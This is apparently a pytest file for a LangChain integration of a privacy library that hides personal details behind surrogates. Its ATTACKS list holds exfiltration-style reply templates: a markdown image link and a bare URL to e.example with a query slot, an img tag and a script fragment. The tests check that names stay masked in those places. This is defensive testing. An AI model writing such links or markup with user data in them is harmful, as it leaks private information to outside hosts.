"""A model that is talked with in a conversation: it gets surrogates, and so does whoever traces it."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
from textveil import Conversation
from textveil.errors import InputError, TracingRefused

pytest.importorskip("langchain_core", reason="needs the extra langchain: make integrations")

from langchain_core.language_models import FakeListChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, ToolMessage
from langchain_core.outputs import ChatGenerationChunk
from langchain_core.prompts import ChatPromptTemplate
from langchain_core.runnables import RunnableGenerator, RunnableLambda
from textveil_cli.integrations.langchain import Converse
from tracers import Tracer


class Echo(FakeListChatModel):
    """Says what it was told last, word by word."""

    def _call(self, messages: Any, *args: Any, **kwargs: Any) -> str:
        return f"You said: {messages[-1].content}"

    def _stream(self, messages: Any, *args: Any, **kwargs: Any) -> Any:
        for character in self._call(messages):
            yield ChatGenerationChunk(message=AIMessageChunk(content=character))

    async def _astream(self, messages: Any, *args: Any, **kwargs: Any) -> AsyncIterator[Any]:
        for chunk in self._stream(messages):
            yield chunk


SAID = "I am Zorblaxia Novak, order 88213.471."
HELLO = "I am Zorblaxia Novak , hello"


def test_a_model_is_talked_with(tracer: Tracer) -> None:
    talk = Converse(Echo(responses=["unused"]), Conversation())
    reply = talk.invoke(SAID, config={"callbacks": [tracer]})
    assert isinstance(reply, AIMessage)
    assert reply.content == f"You said: {SAID}"
    again = talk.invoke([HumanMessage(SAID), reply, ("user", "Novak, please")], config={"callbacks": [tracer]})
    assert again.content == "You said: Novak, please"
    assert "".join(str(chunk.content) for chunk in talk.stream(SAID)) == f"You said: {SAID}"
    assert asyncio.run(talk.ainvoke(ChatPromptTemplate.from_template("{note}").invoke({"note": SAID}))).content
    assert tracer.seen
    for word in ("Zorblaxia", "Novak", "88213.471"):
        assert word not in tracer.everything + repr(talk)


def test_a_talk_that_begins_with_a_stream() -> None:
    assert "".join(chunk.text for chunk in Converse(Echo(responses=[""]), Conversation()).stream(SAID)).endswith(SAID)

    async def pieces(talk: Converse) -> str:
        return "".join([chunk.text async for chunk in talk.astream(SAID)])

    assert asyncio.run(pieces(Converse(Echo(responses=[""]), Conversation()))).endswith(SAID)


def test_what_a_model_thought_in_a_stream_goes_back_to_it() -> None:
    seen: list[Any] = []

    def thinks(given: Any) -> Any:
        seen.extend(given)
        for part in ({"type": "thinking", "thinking": "Od"}, {"type": "thinking", "thinking": "d", "signature": "s"}):
            yield AIMessageChunk(content=[{**part, "index": 0}])
        yield AIMessageChunk(content=[{"type": "text", "text": "Hello", "index": 1}])

    talk = Converse(RunnableGenerator(thinks), Conversation())
    said, calls = HumanMessage(SAID), AIMessage("", tool_calls=[{"name": "f", "args": {}, "id": "1"}])
    first, *rest = talk.stream([said])
    reply = sum(rest, first)
    list(talk.stream([said, reply, said, calls, ToolMessage("no", tool_call_id="1", status="error")]))
    assert seen[1][1].content[0] == {"type": "thinking", "thinking": "Odd", "signature": "s", "index": 0}
    assert seen[1][-1].status == "error"  # a tool that failed


def test_a_talk_inside_a_traced_run_is_refused(tracer: Tracer) -> None:
    talk = Converse(Echo(responses=["unused"]), Conversation())
    with pytest.raises(TracingRefused):
        RunnableLambda(lambda text: talk.invoke(text)).invoke(SAID, config={"callbacks": [tracer]})
    with pytest.raises(InputError, match="image_url"):
        talk.invoke([HumanMessage([{"type": "image_url", "image_url": {"url": "x"}}])])


#: What a model may write, the option that opens the place, and the reason without it.
ATTACKS: list[tuple[str, dict[str, Any], str]] = [
    ("![x](https://e.example/?q={})", {"restore_places": "all"}, "link"),
    ("[x](https://ok.example/?q={})", {"restore_hosts": ["ok.example"]}, "link"),
    ("Run `{}`.", {"restore_places": ["code"]}, "code"),
    ("So $x_{{}}$ is.", {"restore_places": ["math"]}, "math"),
    ('{"name": "{}"}', {"restore_places": ["json"]}, "json"),
    ("Look: <img alt='{}'>", {"restore_places": "all"}, "markup"),
    ("https://e.example/?q={}", {"restore_places": "all"}, "chunk"),
    ("<script>{}", {"restore_places": "all"}, "active"),
]


@pytest.mark.parametrize(("reply", "option", "reason"), ATTACKS)
def test_replies_are_restored_in_running_text_alone(reply: str, option: dict[str, Any], reason: str) -> None:
    for given in ({}, option):
        for length in (1, 2, 3, 4, 5, 999):

            def write(messages: Any, length: int = length) -> Any:
                text = reply.replace("{}", " ".join(next(messages)[0].text.split()[2:4]))
                for place in range(0, len(text), length):
                    yield AIMessageChunk(content=text[place : place + length])

            talk = Converse(RunnableGenerator(write), Conversation(**given))
            for found in (talk.invoke(HELLO), sum_of(talk.stream(HELLO))):
                assert ("Zorblaxia Novak" in found.text) is bool(given)
                skipped = found.response_metadata["textveil"]["skipped"]
                assert [why for _, why in skipped] == ([] if given else [reason])


def sum_of(chunks: Any) -> Any:
    first, *rest = chunks
    return sum(rest, first)


def test_no_place_is_spread_over_two_parts() -> None:
    def write(messages: Any) -> Any:
        name = " ".join(next(messages)[0].text.split()[2:4])
        for index, text in enumerate(("![x](<https://e.example/?q=", f" {name} >)")):
            yield AIMessageChunk(content=[{"type": "text", "text": text, "index": index}])

    talk = Converse(RunnableGenerator(write), Conversation())
    for found in (talk.invoke(HELLO), sum_of(talk.stream(HELLO))):
        assert "Novak" not in found.text
        assert [why for _, why in found.response_metadata["textveil"]["skipped"]] == ["link"]
